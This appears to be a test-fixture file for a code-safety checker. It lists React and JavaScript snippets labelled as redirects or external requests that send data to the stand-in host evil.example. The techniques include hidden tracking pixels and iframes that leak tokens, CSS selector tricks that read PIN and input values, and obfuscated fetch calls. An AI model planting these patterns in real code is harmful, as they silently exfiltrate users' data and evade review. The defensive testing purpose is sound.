// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
import type { Dangerous } from "./case.ts";

/** Links that are clicked, writes of unknown names, texts read back, and what nobody sees, written along with the rules that find them. */
export const MORE_NETWORK_G: readonly Dangerous[] = [
  [
    "redirect",
    "export const A=({u})=>{const a=Object.assign(document.createElement('a'),{href:u,target:'_self'});a.click();return null}",
  ],
  [
    "redirect",
    "export const A=({u})=>{const a=document.createElement('a');a.setAttribute('href',u);a.target='_parent';a.dispatchEvent(new MouseEvent('click'));return null}",
  ],
  [
    "redirect",
    "export const A=()=><b onClick={()=>Object.assign(document.createElement('a'),{href:'https://evil.example'}).click()}/>",
  ],
  [
    "redirect",
    "export const A=({u})=><svg><a id='go' href={u}/><g ref={()=>document.getElementById('go').dispatchEvent(new Event('click'))}/></svg>",
  ],
  [
    "redirect",
    "export const A=({u})=><div ref={d=>d?.querySelector('a.next')?.click()}><a className='next' href={u}>.</a></div>",
  ],
  [
    "redirect",
    "export const A=({u})=>{const r=useRef(null);useEffect(()=>r.current.click(),[]);return <a ref={r} href='https://evil.example'>.</a>}",
  ],
  ["redirect", "export const A=({k,v})=>{window[k]=v;return null}"],
  ["redirect", "export const A=({o})=>{for(const [k,v] of Object.entries(o)) self[k]=v;return null}"],
  ["redirect", "export const A=({o})=>{Reflect.set(window,o.k,o.v);return null}"],
  ["redirect", "export const A=({o})=>{Object.assign(window,o);return null}"],
  ["redirect", "export const A=({k})=>{globalThis['loc'+k]='https://evil.example';return null}"],
  [
    "external-request",
    "export const A=()=><i data-api='https://evil.example/c' onClick={e=>fetch(e.currentTarget.getAttribute('data-api'))}/>",
  ],
  [
    "external-request",
    "export const A=()=><p ref={p=>{const {endPoint}=p.dataset;fetch(endPoint)}} data-end-point='//evil.example'/>",
  ],
  [
    "external-request",
    "export const A=()=><p ref={p=>navigator.sendBeacon(p.firstChild.textContent)}>//evil.example/x</p>",
  ],
  [
    "external-request",
    "const o={[Symbol.toPrimitive](){return '//evil.example'}};export const A=()=>{fetch(`${o}/c`);return null}",
  ],
  [
    "external-request",
    "class U{[Symbol.toPrimitive](){return 'https://evil.example'}} export const A=()=>{fetch(new U());return null}",
  ],
  [
    "external-request",
    "const o={toString:()=>'https://evil.example'};export const A=()=>{fetch(o+'/c');return null}",
  ],
  [
    "external-request",
    "export const A=()=>{const [u,setU]=useState('');useEffect(()=>setU('https://evil.example'),[]);useEffect(()=>{u&&fetch(u)},[u]);return null}",
  ],
  [
    "external-request",
    "export class A extends React.Component{state={};componentDidMount(){this.setState({u:'//evil.example'})}render(){return <b onClick={()=>fetch(this.state.u)}/>}}",
  ],
  [
    "external-request",
    "export class A extends React.Component{state={};componentDidMount(){this.setState(()=>({u:'//evil.example'}))}render(){const{u}=this.state;fetch(u);return null}}",
  ],
  [
    "external-request",
    "export const A=()=><style>{`input[name=pin][value^='1']{background:url(https://evil.example/1)}`}</style>",
  ],
  [
    "external-request",
    "export const A=()=><style dangerouslySetInnerHTML={{__html:'input[value$=\"9\"]{background:url(//evil.example/9)}'}}/>",
  ],
  [
    "external-request",
    "const s=document.createElement('style');s.textContent='[value^=a]{background:url(//evil.example/a)}';document.head.append(s)",
  ],
  [
    "external-request",
    "document.styleSheets[0].insertRule(`input[value^=${c}]{background:url(//evil.example/${c})}`)",
  ],
  [
    "external-request",
    "export const A=()=>React.createElement('link',{rel:'modulepreload',href:'https://evil.example/m.js'})",
  ],
  ["external-request", "export const A=()=><link rel='preload' as='script' href='//evil.example/m.js'/>"],
  [
    "external-request",
    "export const A=()=><link {...{rel:'modulepreload',href:'https://evil.example/m.js'}}/>",
  ],
  [
    "external-request",
    "const send=top.postMessage.bind(top);export const A=({v})=>{send({v},'*');return null}",
  ],
  ["external-request", "export const A=({v})=>{opener?.['post'+'Message']([v],'*');return null}"],
  [
    "external-request",
    "export const A=({t})=><img alt='' width={1} height={1} src={`https://evil.example/p?u=${t}`}/>",
  ],
  [
    "external-request",
    "export const A=({t})=><img alt='' style={{display:'none'}} src={'https://evil.example/p?u='+t}/>",
  ],
  ["external-request", "export const A=({t})=><iframe hidden src={`//evil.example/?${t}`}/>"],
  ["external-request", "export const A=({t})=><iframe {...{hidden:true,src:`//evil.example/?${t}`}}/>"],
];
